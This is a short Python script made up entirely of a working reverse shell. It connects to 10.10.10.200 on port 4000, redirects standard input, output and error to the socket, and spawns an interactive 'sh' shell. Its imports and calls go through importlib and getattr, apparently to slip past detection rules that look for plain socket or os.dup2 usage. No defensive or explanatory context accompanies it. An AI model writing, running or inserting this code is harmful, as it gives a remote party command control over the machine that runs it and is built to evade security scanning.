import importlib

sock_mod = importlib.import_module("socket")
os_mod = importlib.import_module("os")
pty_mod = importlib.import_module("pty")

s = getattr(sock_mod, "socket")()
s.connect(("10.10.10.200", 4000))
for n in range(3):
    getattr(os_mod, "dup2")(s.fileno(), n)
getattr(pty_mod, "spawn")("sh")
